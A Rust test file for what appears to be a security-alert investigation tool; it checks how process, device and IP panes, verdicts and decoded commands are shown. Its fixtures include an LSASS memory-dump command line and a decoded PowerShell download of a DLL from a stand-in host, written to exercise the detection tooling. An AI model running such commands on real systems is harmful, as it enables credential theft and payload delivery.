//! What the pane of a node says, word for word.
#![expect(clippy::unwrap_used, reason = "helpers of tests")]

mod desk;

use desk::lines::section_lines;
use desk::{LSASS, ask, open, sample, story};
use serde_json::{Value, json};
use std::fmt::Write as _;
use throughline_engine::Engine;
use throughline_engine::protocol::{
    Decode, DecodeView, EntityPane, KinLine, MomentOf, NodeActions, NodePane, NodePaneView, Tone,
};

/// The pane of the node of this name in the story of an alert.
fn pane(engine: &mut Engine, key: &str, label: &str) -> NodePaneView {
    let rows = ask(engine, story(key)).unwrap().rows;
    let row = rows.iter().find(|it| it.label == label).unwrap();
    let asked = NodePane {
        key: key.to_owned(),
        node: row.node,
    };
    ask(engine, asked).unwrap()
}

fn kin_line(line: &KinLine) -> String {
    let node = line.node.map_or("-".to_owned(), |it| it.to_string());
    format!(
        "[{node}] {} {} | {} | {} | {}",
        line.name, line.pid, line.at, line.after, line.command
    )
}

/// A pane as lines of text.
fn told(pane: &NodePaneView) -> String {
    let mut out = format!("{} {} {}\n", pane.kind, pane.title, pane.subtitle);
    for it in &pane.encoded {
        let _ = writeln!(out, "encoded: {}: {}", it.label, it.how);
    }
    let _ = writeln!(
        out,
        "verdicts: {} (differ {})",
        pane.verdicts.summary, pane.verdicts.differ
    );
    out += &section_lines(&pane.sections);
    if let Some(kin) = &pane.kin {
        let parent = kin.parent.as_ref().map(kin_line).unwrap_or_default();
        let _ = writeln!(out, "# Kin\n  parent {parent} ({})", kin.parent_note);
        for child in &kin.children {
            let _ = writeln!(out, "  started {}", kin_line(child));
        }
    }
    let _ = writeln!(out, "# History, {} before", pane.earlier);
    for it in &pane.history {
        let here = if matches!(it.of, MomentOf::Alert { here: true, .. }) {
            " <here>"
        } else {
            ""
        };
        let _ = writeln!(out, "  {} | {} | {}{here}", it.at, it.kind, it.what);
    }
    let _ = writeln!(out, "  and {} more", pane.later);
    for it in &pane.incidents {
        let _ = writeln!(
            out,
            "incident {}: {} of {}",
            it.incident.id, it.here, it.incident.alerts
        );
    }
    let alerts: Vec<&str> = pane.alerts.iter().map(|it| it.title.as_str()).collect();
    let _ = write!(out, "alerts: {} +{}", alerts.join("; "), pane.more_alerts);
    out
}

#[test]
fn the_pane_of_the_focused_process_says_everything() {
    let mut engine = sample();
    let pane = pane(&mut engine, LSASS, "pd64.exe");
    assert_eq!((pane.previous, pane.next), (Some(28), Some(30)));
    insta::assert_snapshot!(told(&pane), @r"
    Process pd64.exe 8612
    verdicts: Malicious by 2 alerts (differ false)
    # (untitled)
      Command line: C:\ProgramData\Oskr\pd64.exe -accepteula -ma lsass.exe C:\ProgramData\Oskr\ls.tmp (Code)
      Image: pd64.exe (Code)
      Folder: C:\ProgramData\Oskr (Code)
      SHA-256: 34878836034e53d313e29acfdb3d28df155d222478f5685db41882ac6904bd1e (Code) [only hash:34878836034e53d313e29acfdb3d28df155d222478f5685db41882ac6904bd1e]
      SHA-1: 5bbfc50b14090bca358a683df0aed49bb043aa10 (Code) [only hash:5bbfc50b14090bca358a683df0aed49bb043aa10]
      MD5: 2db89c002a429e4e81ab6637860daa76 (Code) [only hash:2db89c002a429e4e81ab6637860daa76]
      Size in bytes: 884294 (Code)
      Process id: 8612 (Code)
      Started: 15 Apr 2026 17:40:53 UTC
      Account: m.oduya [only user:m.oduya]
      Account domain: OSKERHOLM
      Display name: Marit Oduya
      User principal name: m.oduya@oskerholm.example (Code) [only user:m.oduya@oskerholm.example]
      SID: S-1-5-21-1395195057-1347622660-1798768452-6641 (Code) [only user:S-1-5-21-1395195057-1347622660-1798768452-6641]
      Entra object id: 789a878a-1ed5-4e55-a916-01a9403cf203 (Code)
      Device id: a506b362b6f58ab59b25a3fc1c21b351b9bb4c17 (Code)
      Device: fin-ws-03 [only device:=fin-ws-03]
    # What the alerts say
      Detection: Detected
      Remediation: Pending approval
      Remediation: Remediated
    # Within the loaded data
      In alerts: 2 of 73
      In incidents: 1 of 13
      Seen on: 1 of 10 devices: fin-ws-03
      First seen: 15 Apr 2026 17:40:52 UTC, in this alert
      Last seen: 15 Apr 2026 17:43:05 UTC
    # Kin
      parent [27] cmd.exe 8600 | 15 Apr 17:40:52 | 1 s later | /c C:\ProgramData\Oskr\pd64.exe -accepteula -ma lsass.exe C:\ProgramData\Oskr\ls.tmp ()
    # History, 0 before
      15 Apr 2026 17:40:52 | Alert | LSASS process memory read by an uncommon tool <here>
      15 Apr 2026 17:41:30 | Alert | Hacking tool 'Ashpick' was detected
      and 0 more
    incident 4127: 2 of 29
    alerts: LSASS process memory read by an uncommon tool; Hacking tool 'Ashpick' was detected +0
    ");
}

#[test]
fn what_is_encoded_is_said_and_decoded_when_asked() {
    let mut engine = sample();
    let powershell = pane(&mut engine, LSASS, "powershell.exe");
    assert_eq!(powershell.subtitle, "7312");
    let asked = powershell.encoded[0].ask.clone();
    let decoded = ask(&mut engine, asked).unwrap();
    insta::assert_snapshot!(layers(&decoded), @r"0 PowerShell encoded command (characters 36 to 383): Write-Output 'harbour lights'; Invoke-WebRequest -Uri https://cdn-quayline.example/a/upd.dat -OutFile C:\ProgramData\Oskr\qlrt.dll");
    // What it started says so of its parent.
    let child = pane(&mut engine, LSASS, "conhost.exe");
    let labels: Vec<&str> = child.encoded.iter().map(|it| it.label.as_str()).collect();
    assert_eq!(labels, ["Command line of its parent"]);
    assert_eq!(
        ask(&mut engine, child.encoded[0].ask.clone()).unwrap(),
        decoded
    );
    // And nothing where nothing is.
    assert_eq!(pane(&mut engine, LSASS, "whoami.exe").encoded, []);
    let nothing = Decode::Text("C:\\Windows\\System32\\svchost.exe -k netsvcs".to_owned());
    assert_eq!(ask(&mut engine, nothing).unwrap(), DecodeView::default());
}

fn layers(decoded: &DecodeView) -> String {
    let layers = decoded.layers.iter();
    let lines = layers.map(|it| format!("{} {} ({}): {}", it.depth, it.how, it.place, it.text));
    lines.collect::<Vec<String>>().join("\n")
}

#[test]
fn decoded_text_shows_nothing_that_acts() {
    let hostile = format!("echo 'a\u{202e}b' ; {}", "x".repeat(6_000));
    let units = hostile.encode_utf16().flat_map(u16::to_le_bytes);
    let hex = units.fold(String::from("\u{202e} 0x"), |mut out, it| {
        let _ = write!(out, "{it:02x}");
        out
    });
    let decoded = ask(&mut Engine::default(), Decode::Text(hex)).unwrap();
    let layer = &decoded.layers[0];
    assert!(
        layer.text.starts_with("echo 'a\u{fffd}b' ; xxx"),
        "{:.40}",
        layer.text
    );
    assert_eq!(layer.text.chars().count(), 5_001);
    assert_eq!(layer.copy.as_ref(), Some(&hostile));
    assert_eq!(layer.place, "characters 3 to 24,056");
}

/// An alert of Graph with this evidence.
fn alert(id: &str, minute: usize, evidence: Vec<Value>) -> Value {
    let evidence: Vec<Value> = evidence
        .into_iter()
        .map(|mut it| {
            let name = format!("#microsoft.graph.security.{}", it["type"].as_str().unwrap());
            it["@odata.type"] = name.into();
            it.as_object_mut().unwrap().remove("type");
            it
        })
        .collect();
    json!({
        "@odata.type": "#microsoft.graph.security.alert", "id": id, "title": format!("Alert {id}"),
        "firstActivityDateTime": format!("2026-04-15T{:02}:{:02}:00Z", minute / 60, minute % 60),
        "lastActivityDateTime": format!("2026-04-15T{:02}:{:02}:30Z", minute / 60, minute % 60),
        "evidence": evidence
    })
}

fn opened(alerts: &[Value]) -> Engine {
    let mut engine = Engine::default();
    let list = serde_json::to_vec(&json!({ "value": alerts })).unwrap();
    open(&mut engine, &[("alerts.json", &list)]);
    engine
}

fn file(name: &str, verdict: &str) -> Value {
    let details = json!({"fileName": name, "sha256": format!("{:064}", 7)});
    json!({"type": "fileEvidence", "verdict": verdict, "fileDetails": details})
}

fn device(name: &str) -> Value {
    json!({"type": "deviceEvidence", "deviceDnsName": format!("{name}.x.example"), "hostName": name,
        "mdeDeviceId": format!("id-of-{name}")})
}

#[test]
fn verdicts_that_differ_are_told_with_who_says_them() {
    let mut alerts: Vec<Value> = (0..8)
        .map(|it| alert(&format!("m{it}"), it, vec![file("a.exe", "malicious")]))
        .collect();
    alerts.push(alert("c", 9, vec![file("a.exe", "noThreatsFound")]));
    alerts.push(alert("u", 10, vec![file("a.exe", "unknown")]));
    alerts.push(alert("f", 11, vec![file("a.exe", "Quizzical")]));
    let verdicts = pane(&mut opened(&alerts), "c", "a.exe").verdicts;
    assert_eq!(
        verdicts.summary,
        "Malicious by 8 alerts, no threats found by 1, quizzical by 1"
    );
    assert!(verdicts.differ);
    let lines = verdicts.verdicts.iter().map(|it| {
        let alerts: Vec<&str> = it.alerts.iter().map(|it| it.title.as_str()).collect();
        (it.label.as_str(), it.tone, alerts.join(", "), it.more)
    });
    assert_eq!(
        lines.collect::<Vec<_>>(),
        [
            (
                "Malicious",
                Tone::Bad,
                "Alert m0, Alert m1, Alert m2, Alert m3, Alert m4".to_owned(),
                3
            ),
            ("No threats found", Tone::Good, "Alert c".to_owned(), 0),
            ("Quizzical", Tone::Plain, "Alert f".to_owned(), 0),
        ]
    );
}

#[test]
fn an_alert_that_tells_of_a_thing_twice_is_one_alert() {
    let twice = vec![file("a.exe", "malicious"), file("b.exe", "malicious")];
    let mut engine = opened(&[alert("a", 0, twice)]);
    let pane = pane(&mut engine, "a", "a.exe");
    assert_eq!(pane.verdicts.summary, "Malicious by 1 alert");
    assert!(!pane.verdicts.differ);
    // Under which other name it goes is told.
    let names = pane
        .sections
        .iter()
        .find(|it| it.title == "Also known as")
        .unwrap();
    assert_eq!(names.facts[0].value, "b.exe");
}

fn fact(pane: &NodePaneView, label: &str) -> String {
    let facts = pane.sections.iter().flat_map(|it| &it.facts);
    let fact = facts.into_iter().find(|it| it.label == label);
    fact.map(|it| it.value.clone()).unwrap_or_default()
}

#[test]
fn how_common_a_thing_is_is_counted_over_devices() {
    let on = |name: &str| {
        json!({"type": "fileEvidence", "mdeDeviceId": format!("id-of-{name}"),
        "fileDetails": {"fileName": "a.exe", "sha256": format!("{:064}", 7)}})
    };
    let mut engine = opened(&[
        alert("a", 5, vec![device("one"), device("two"), on("two")]),
        alert("b", 3, vec![device("three"), file("a.exe", "unknown")]),
        alert("c", 9, vec![device("four"), device("five")]),
        alert("d", 9, vec![on("two")]),
    ]);
    let seen = pane(&mut engine, "b", "a.exe");
    // It is on the device that it names, or else on that of its alert.
    assert_eq!(fact(&seen, "Seen on"), "2 of 5 devices: three, two");
    assert_eq!(fact(&seen, "In alerts"), "3 of 4");
    assert_eq!(
        fact(&seen, "First seen"),
        "15 Apr 2026 00:03:00 UTC, in this alert"
    );
    assert_eq!(fact(&seen, "Last seen"), "15 Apr 2026 00:09:30 UTC");
    let elsewhere = pane(&mut engine, "a", "a.exe");
    assert_eq!(fact(&elsewhere, "First seen"), "15 Apr 2026 00:03:00 UTC");
}

#[test]
fn every_name_of_a_device_is_told() {
    let other = json!({"type": "deviceEvidence", "deviceDnsName": "ONE.old.example",
        "mdeDeviceId": "id-of-one", "azureAdDeviceId": "entra-1", "osPlatform": "Windows11"});
    let mut engine = opened(&[
        alert("a", 0, vec![device("one")]),
        alert("b", 1, vec![other]),
    ]);
    let pane = pane(&mut engine, "a", "one");
    insta::assert_snapshot!(section_lines(&pane.sections), @r"
    # (untitled)
      DNS name: one.x.example [only device:one.x.example]
      Host name: one [only device:one]
      Defender device id: id-of-one (Code)
      Operating system: Windows11
      Entra device id: entra-1 (Code)
    # Also known as
      DNS name: ONE.old.example [only device:ONE.old.example]
    # Within the loaded data
      In alerts: 2 of 2
      First seen: 15 Apr 2026 00:00:00 UTC, in this alert
      Last seen: 15 Apr 2026 00:01:30 UTC
    ");
}

#[test]
fn the_ports_of_an_address_are_told() {
    let to = |port: u16| {
        json!({"type": "networkConnectionEvidence", "protocol": "tcp",
        "sourceAddress": {"ipAddress": "10.0.0.5"}, "sourcePort": 49_812,
        "destinationAddress": {"ipAddress": "198.51.100.61"}, "destinationPort": port})
    };
    let ip = |address: &str| json!({"type": "ipEvidence", "ipAddress": address, "countryLetterCode": "BG"});
    let mut engine = opened(&[
        alert(
            "a",
            0,
            vec![ip("198.51.100.61"), ip("10.0.0.5"), to(8443), to(443)],
        ),
        alert("b", 1, vec![ip("198.51.100.61"), to(443)]),
    ]);
    assert_eq!(
        fact(&pane(&mut engine, "a", "198.51.100.61"), "Ports"),
        "443, 8443"
    );
    assert_eq!(
        fact(&pane(&mut engine, "a", "10.0.0.5"), "Ports it came from"),
        "49812"
    );
}

#[test]
fn a_long_history_is_told_around_the_alert() {
    let alerts: Vec<Value> = (0..200)
        .map(|it| alert(&format!("a{it:03}"), it, vec![file("a.exe", "malicious")]))
        .collect();
    let mut engine = opened(&alerts);
    for (key, earlier, from, to, later) in [
        ("a000", 0, "Alert a000", "Alert a059", 140),
        ("a100", 80, "Alert a080", "Alert a139", 60),
        ("a199", 179, "Alert a179", "Alert a199", 0),
    ] {
        let pane = pane(&mut engine, key, "a.exe");
        let told = (pane.history.first().unwrap(), pane.history.last().unwrap());
        assert_eq!((pane.earlier, pane.later), (earlier, later));
        assert_eq!((told.0.what.as_str(), told.1.what.as_str()), (from, to));
        let here =
            |of: &MomentOf| matches!(of, MomentOf::Alert { key: it, here: true, .. } if it == key);
        assert_eq!(pane.history.iter().filter(|it| here(&it.of)).count(), 1);
    }
}

#[test]
fn evidence_of_an_unknown_type_is_shown_as_it_was_exported() {
    let new = json!({"type": "hologramEvidence", "shape": "cube", "inner": {"deep\u{202e}": true}});
    let mut engine = opened(&[alert("a", 0, vec![new])]);
    let pane = pane(&mut engine, "a", "hologramEvidence");
    insta::assert_snapshot!(pane.raw, @r#"
    {
      "@odata.type": null,
      "inner": {
        "deep�": true
      },
      "shape": "cube"
    }
    "#);
    assert_eq!(fact(&pane, "As exported"), "");
}

#[test]
fn an_entity_has_the_same_pane_without_a_story() {
    let mut engine = sample();
    let in_story = pane(&mut engine, LSASS, "powershell.exe");
    let rows = ask(&mut engine, story(LSASS)).unwrap().rows;
    let row = rows.iter().find(|it| it.label == "powershell.exe").unwrap();
    let node = NodeActions::Node {
        key: LSASS.to_owned(),
        node: row.node,
    };
    let page = ask(&mut engine, node).unwrap().page.unwrap();
    let alone = ask(&mut engine, page.clone()).unwrap();
    assert_eq!(alone.subtitle, "7312");
    assert_eq!(
        (&alone.title, &alone.kind),
        (&in_story.title, &in_story.kind)
    );
    assert_eq!(alone.verdicts, in_story.verdicts);
    assert_eq!(alone.incidents, in_story.incidents);
    assert_eq!(alone.encoded.len(), in_story.encoded.len());
    let decoded = ask(&mut engine, alone.encoded[0].ask.clone()).unwrap();
    assert_eq!(
        ask(&mut engine, in_story.encoded[0].ask.clone()).unwrap(),
        decoded
    );
    for (kind, key) in [("process", "nothing.exe"), ("nonsense", "powershell.exe")] {
        let asked = EntityPane {
            kind: kind.to_owned(),
            key: key.to_owned(),
            id: None,
        };
        assert!(ask(&mut engine, asked).unwrap_err().not_found);
    }
}
